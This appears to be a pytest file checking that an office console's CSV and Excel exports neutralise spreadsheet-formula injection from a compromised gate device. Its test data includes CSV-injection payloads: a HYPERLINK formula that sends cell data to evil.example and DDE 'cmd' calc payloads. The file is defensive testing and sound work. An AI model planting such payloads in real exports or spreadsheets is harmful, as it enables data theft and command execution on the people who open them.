"""Text a gate pushed cannot become a formula in the clerk's Excel: in the CSV every cell that starts
with = + - @ tab or CR is prefixed with a single quote (OWASP's CSV-injection advice); in the .xlsx
such text is a string cell marked quote-prefixed, shown as sent and never run, even once edited."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import httpx
import pytest
from openpyxl import load_workbook

from domain.exitrow import EntryKind, LogEntry
from kiosk.exitlog import ExitLog
from office.console.auth import add_staff
from office.export import neutralise_cell, to_csv
from tests.office.harness import CST, OfficeServer
from tests.office.test_api import client
from tests.office.test_ingest import push

PASSWORD = "correct horse 1"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", HOSTILE + ["\t=1+1", "\r=1+1"])
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["04A1B2C3", "张三", "", "2026-12-01T10:00:00+08:00", 7, True, "a=b"])
def test_ordinary_cells_are_left_alone(value: object) -> None:
    assert neutralise_cell(value) == value


def _push_hostile_rows(office: OfficeServer) -> datetime:
    log = ExitLog.memory("north")
    at = datetime.now(CST) - timedelta(minutes=5)
    for text in HOSTILE:
        log.append(LogEntry(EntryKind.CARD_DENIED, at, card_uid=text, guard_id=text, permit_id=text[:32],
                            reasons=(text[:64],)), clock_synced=True)
    with client(office, office.add_gate("north")) as c:
        assert push(c, list(log.rows()))["accepted"] == len(HOSTILE)
    with office.engine.begin() as conn:
        add_staff(conn, "default", "wangli", "王丽", PASSWORD)
    return at


def test_the_console_csv_quotes_what_a_stolen_gate_pushed(office: OfficeServer) -> None:
    at = _push_hostile_rows(office)
    with httpx.Client(base_url=office.url, timeout=10) as c:
        assert c.post("/console/login", data={"username": "wangli", "password": PASSWORD}).status_code == 303
        day = at.date().isoformat()
        body = c.get("/console/log.csv", params={"from": day, "to": (at.date() + timedelta(days=1)).isoformat()})
    assert body.status_code == 200
    rows = list(csv.DictReader(io.StringIO(body.content.decode("utf-8-sig"))))
    assert sorted(r["card_uid"] for r in rows) == sorted("'" + t for t in HOSTILE)
    for r in rows:
        for name in ("card_uid", "guard_id", "permit_id", "reasons"):
            assert r[name].startswith("'"), (name, r[name])
    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_console_excel_keeps_what_a_stolen_gate_pushed_as_text(office: OfficeServer) -> None:
    at = _push_hostile_rows(office)
    with httpx.Client(base_url=office.url, timeout=10) as c:
        assert c.post("/console/login", data={"username": "wangli", "password": PASSWORD}).status_code == 303
        body = c.get("/console/log.xlsx", params={"from": at.date().isoformat(),
                                                  "to": (at.date() + timedelta(days=1)).isoformat()})
    assert body.status_code == 200 and body.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(body.content)).active
    cards = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cards) == sorted(HOSTILE)         # shown exactly as the gate sent it
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]     # no formula anywhere
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert len(hostile) >= 2 * len(HOSTILE)                          # card and guard of every row at least
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_the_cli_export_uses_the_same_rule() -> None:
    row = {"gate_id": "north", "seq": 1, "at": "2026-12-01T10:00:00+08:00", "kind": "card_pass", "guard_id": "@g",
           "card_uid": "=1+1", "permit_id": "", "slip_id": "", "reasons": ["-x"], "detail": {}, "clock_synced": True,
           "event_id": "e", "hash": "0" * 64}
    out = list(csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig"))))[1]
    assert out[4:7] == ["'@g", "'=1+1", ""] and out[8] == "'-x"
